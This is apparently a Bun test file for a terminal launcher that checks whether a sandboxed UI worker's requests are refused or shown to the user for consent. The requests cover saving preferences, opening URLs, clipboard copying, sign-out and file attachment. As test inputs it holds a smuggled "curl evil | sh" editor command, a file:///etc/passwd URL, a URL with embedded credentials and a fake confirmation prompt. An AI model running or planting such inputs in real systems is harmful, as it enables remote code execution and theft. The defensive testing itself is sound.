import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parseLaunchArgs } from "../../src/host/args.ts";
import { runLauncher } from "../../src/host/launcher.ts";
import { QUIET_MS } from "../../src/host/trusted-ui.ts";
import { FakeClock } from "../support/fake-clock.ts";
import { FakeTerminal } from "../support/fake-terminal.ts";
import { guestBundle } from "../support/guest-bundle.ts";
import { runWithBundle } from "../support/launcher-run.ts";
import { startTestServer, type TestServer } from "../support/p2-server.ts";

let server: TestServer;
beforeAll(async () => {
	server = await startTestServer();
});
afterAll(() => server.stop());

const SCREEN = "not the server's screen";

describe("requests the UI makes of the launcher", () => {
	test("savePrefs: refused without a screen for launcher ids and other keys; asked on the launcher's own screen otherwise", async () => {
		const clock = new FakeClock();
		const run = runWithBundle(
			server,
			guestBundle(`
				listen((m) => {
					if (m.kind === "preferences") out("PREFS:" + (m.preferences.theme ?? "none") + ";");
				});
				on("1", () => {
					request("a", "savePrefs", { patch: { keybindings: { "app.clipboard.pasteImage": ["enter"] } } });
					request("b", "savePrefs", { patch: { externalEditor: "sh -c 'curl evil | sh'" } });
				});
				on("2", () => {
					request("c", "savePrefs", { patch: { theme: "dark" } });
					setTimeout(() => out("WHILE-ASKING"), 0);
				});
				on("3", () => {
					request("d", "savePrefs", { patch: { theme: "dark" } });
					out("ASKED-AGAIN;");
				});
			`),
			{ clock },
		);
		const { terminal } = run;
		const prefs = join(run.home, ".pi", "p2-tui", "prefs.json");
		await terminal.until("READY;");
		terminal.onInput?.("1");
		await terminal.until("ANSWER:a:false:app.clipboard.pasteImage is the launcher's");
		await terminal.until('ANSWER:b:false:"externalEditor" cannot be changed from the UI:');
		expect(terminal.output).not.toContain(SCREEN);
		terminal.onInput?.("2");
		await terminal.until(SCREEN);
		expect(terminal.output).toContain('+ theme: "dark"');
		terminal.onInput?.("z");
		terminal.onInput?.("n");
		await terminal.until("ANSWER:c:false:declined:");
		expect(terminal.output).not.toContain("WHILE-ASKING");
		expect(terminal.output).toContain("REDRAW;");
		expect(terminal.output).not.toContain('IN:"z"');
		expect(existsSync(prefs)).toBe(false);
		// After a "no" the same request waits a few seconds before it is shown again.
		const mark = terminal.mark();
		terminal.onInput?.("3");
		await terminal.until("ASKED-AGAIN;", mark);
		expect(terminal.output.indexOf(SCREEN, mark)).toBe(-1);
		clock.advance(3000);
		await terminal.until(SCREEN, mark);
		// A "y" typed before the screen could be read is not consent.
		terminal.onInput?.("y");
		expect(existsSync(prefs)).toBe(false);
		clock.advance(QUIET_MS);
		terminal.onInput?.("y");
		await terminal.until("ANSWER:d:true::");
		expect(JSON.parse(readFileSync(prefs, "utf8"))).toEqual({ theme: "dark" });
		// The new preferences reach the UI before the answer does.
		const tail = terminal.output.slice(terminal.output.lastIndexOf("REDRAW;"));
		expect(tail.indexOf("PREFS:dark;")).toBeLessThan(tail.indexOf("ANSWER:d:true"));
		expect((await run.done()).code).toBe(0);
	}, 20000);

	test("a question on the launcher's screen: the worker's output stays off it, and navigating away withdraws it", async () => {
		const run = runWithBundle(
			server,
			guestBundle(`
				on("1", () => {
					host.post({ kind: "navigation", session: "0a0a0a0a-0000-4000-8000-000000000001" });
					request("c", "copy", { text: "harmless", label: "the answer" });
					setTimeout(() => {
						out("\\x1b[2J\\x1b[HFAKE Enter or y: confirm");
						host.post({ kind: "navigation", session: "0a0a0a0a-0000-4000-8000-000000000002" });
					}, 0);
				});
			`),
		);
		const { terminal } = run;
		await terminal.until("READY;");
		terminal.onInput?.("1");
		await terminal.until(SCREEN);
		await terminal.until("ANSWER:c:false:cancelled:");
		expect(terminal.output).not.toContain("FAKE");
		expect((await run.done()).code).toBe(0);
	}, 20000);

	test("openUrl: only https without credentials, shown with its site and host, opened only on a yes", async () => {
		const run = runWithBundle(
			server,
			guestBundle(`
				on("1", () => {
					request("a", "openUrl", { url: "file:///etc/passwd" });
					request("b", "openUrl", { url: "https://user:secret@evil.example/" });
					request("d", "openUrl", { url: "http://127.0.0.1:22/" });
				});
				on("2", () => request("c", "openUrl", { url: "https://login.auth.example.co.uk/sign-in?state=1" }));
			`),
			{ columns: 120 },
		);
		const { terminal } = run;
		await terminal.until("READY;");
		terminal.onInput?.("1");
		await terminal.until("ANSWER:a:false:only https addresses without credentials, or a forwarded port, are opened:");
		await terminal.until("ANSWER:b:false:only https addresses without credentials, or a forwarded port, are opened:");
		// A loopback port nobody forwarded is not a forward.
		await terminal.until("ANSWER:d:false:only https addresses without credentials, or a forwarded port, are opened:");
		expect(terminal.output).not.toContain(SCREEN);
		terminal.onInput?.("2");
		await terminal.until("https://login.auth.example.co.uk/sign-in?state=1");
		expect(terminal.output).toContain("Action: Open this address in your browser (the UI asked)");
		expect(terminal.output).toContain("Site: example.co.uk");
		expect(terminal.output).toContain("Host: login.auth.example.co.uk");
		terminal.onInput?.("n");
		await terminal.until("ANSWER:c:false:declined:");
		expect((await run.done()).code).toBe(0);
	}, 20000);

	test("copy on select: denied without the person's own mouse gesture, written by the launcher right after one", async () => {
		const run = runWithBundle(
			server,
			guestBundle(`
				on("1", () => request("a", "copy.selection", { text: "stolen" }));
				on("\\x1b[<0;9;5m", () => request("b", "copy.selection", { text: "selected" }));
			`),
		);
		const { terminal } = run;
		await terminal.until("READY;");
		terminal.onInput?.("1");
		await terminal.until("ANSWER:a:false:denied:");
		terminal.onInput?.("\x1b[<0;5;5M");
		terminal.onInput?.("\x1b[<32;9;5M");
		terminal.onInput?.("\x1b[<0;9;5m");
		await terminal.until("ANSWER:b:true::");
		expect(terminal.output).toContain(`\x1b]52;c;${Buffer.from("selected").toString("base64")}\x07`);
		expect(terminal.output).not.toContain(Buffer.from("stolen").toString("base64"));
		expect((await run.done()).code).toBe(0);
	}, 20000);

	test("signOut: refused for this device's server; for a remote one, asked first, then posted with the launcher's cookie", async () => {
		const bundle = guestBundle(`
			on("1", () => request("a", "signOut", { all: false }));
			out("START:" + JSON.stringify(host.start) + ";");
		`);
		const device = runWithBundle(server, bundle);
		await device.terminal.until("READY;");
		device.terminal.onInput?.("1");
		await device.terminal.until("ANSWER:a:false:this device's own server has no sign-in to end:");
		expect((await device.done()).code).toBe(0);

		const posted: { path: string; cookie: string | null; origin: string | null }[] = [];
		const remote = Bun.serve({
			port: 0,
			hostname: "127.0.0.1",
			fetch(req) {
				const url = new URL(req.url);
				if (req.method === "POST")
					posted.push({ path: url.pathname, cookie: req.headers.get("cookie"), origin: req.headers.get("origin") });
				return Response.json({ ok: true });
			},
		});
		const origin = `http://127.0.0.1:${remote.port}`;
		const clock = new FakeClock();
		const terminal = new FakeTerminal();
		const result = runLauncher({
			args: parseLaunchArgs([]),
			target: { kind: "owner", origin: () => origin, credentials: () => ({ cookie: "p2_owner=abc" }) },
			env: { TERM: "xterm-256color", HOME: "/home/secret" },
			fetchBundle: async () => ({ source: bundle, hash: "test" }),
			terminal: terminal as never,
			mouse: "on",
			clock,
		});
		try {
			await terminal.until("READY;");
			terminal.onInput?.("1");
			await terminal.until("Sign out of this server on this device");
			clock.advance(QUIET_MS);
			terminal.onInput?.("y");
			await terminal.until("ANSWER:a:true::");
			expect(posted).toEqual([{ path: "/owner/logout", cookie: "p2_owner=abc", origin }]);
			// The cookie signs the launcher's own requests; the worker never sees it.
			expect(terminal.output).toContain("START:");
			expect(terminal.output).not.toContain("p2_owner=abc");
			terminal.onInput?.("q");
			await result;
		} finally {
			remote.stop(true);
		}
	}, 20000);

	test("attach: the launcher opens the file itself (no symlinks, FIFOs or directories), asks, and uploads to the session on screen", async () => {
		const dir = mkdtempSync(join(tmpdir(), "p2-attach-"));
		writeFileSync(join(dir, "notes.txt"), "attached words");
		symlinkSync(join(dir, "notes.txt"), join(dir, "link.txt"));
		Bun.spawnSync(["mkfifo", join(dir, "pipe")]);
		const session = server.server.ctx.catalog.create({ cwd: dir, title: "attach target" }).id;
		const clock = new FakeClock();
		const path = (name: string) => JSON.stringify(join(dir, name));
		const run = runWithBundle(
			server,
			guestBundle(`
				on("0", () => request("none", "attach", { path: ${path("notes.txt")} }));
				on("1", () => {
					host.post({ kind: "navigation", session: ${JSON.stringify(session)} });
					out("NAVIGATED;");
				});
				on("l", () => request("link", "attach", { path: ${path("link.txt")} }));
				on("p", () => request("pipe", "attach", { path: ${path("pipe")} }));
				on("d", () => request("dir", "attach", { path: ${JSON.stringify(dir)} }));
				on("2", () => request("ok", "attach", { path: ${path("notes.txt")} }));
			`),
			{ clock, columns: 200 },
		);
		const { terminal } = run;
		try {
			await terminal.until("READY;");
			terminal.onInput?.("0");
			await terminal.until("No session is open to send it to.");
			terminal.onInput?.("\r");
			await terminal.until("ANSWER:none:false:declined:null;");
			terminal.onInput?.("1");
			await terminal.until("NAVIGATED;");
			// What is wrong with each file is the launcher's to tell; the worker hears only that nothing was sent.
			for (const [key, id, why] of [
				["l", "link", "link.txt is a symbolic link; name the file it points to"],
				["p", "pipe", "pipe is not a regular file"],
				["d", "dir", `${dir} is a directory`],
			] as const) {
				terminal.onInput?.(key);
				await terminal.until(why);
				terminal.onInput?.("\r");
				await terminal.until(`ANSWER:${id}:false:declined:null;`);
			}
			const answers = terminal.output.match(/ANSWER:[^;]*;/g) ?? [];
			expect(answers.join("")).not.toContain(dir);
			terminal.onInput?.("2");
			await terminal.until("Send a file from this computer to the server");
			expect(terminal.output).toContain(`Session: ${session}`);
			expect(terminal.output).toContain("Size: 14 bytes");
			clock.advance(QUIET_MS);
			terminal.onInput?.("y");
			await terminal.until("ANSWER:ok:true::");
			const attached = JSON.parse(/ANSWER:ok:true::(\{[^;]*\});/.exec(terminal.output)![1]!);
			expect(attached).toMatchObject({ name: "notes.txt", size: 14, mimeType: "text/plain" });
			expect(terminal.output).not.toContain(`"path"`);
			expect((await run.done()).code).toBe(0);
		} finally {
			rmSync(dir, { recursive: true, force: true });
		}
	}, 20000);

	test("p2.attach, bound in the person's own keybindings.json, opens the launcher's picker; the worker never sees the key", async () => {
		const home = mkdtempSync(join(tmpdir(), "p2-attach-key-"));
		mkdirSync(join(home, ".pi", "agent"), { recursive: true });
		writeFileSync(join(home, ".pi", "agent", "keybindings.json"), JSON.stringify({ "p2.attach": "f9" }));
		const run = runWithBundle(
			server,
			guestBundle(`host.post({ kind: "navigation", session: "0a0a0a0a-0000-4000-8000-000000000001" });`),
			{ env: { HOME: home } },
		);
		const { terminal } = run;
		try {
			await terminal.until("READY;");
			terminal.onInput?.("\x1b[20~");
			await terminal.until("Choose a file to send");
			terminal.onInput?.("\x1b");
			await terminal.until("REDRAW;");
			expect((await run.done()).code).toBe(0);
			expect(terminal.output).not.toContain('IN:"\\u001b[20~"');
		} finally {
			rmSync(home, { recursive: true, force: true });
		}
	}, 20000);
});
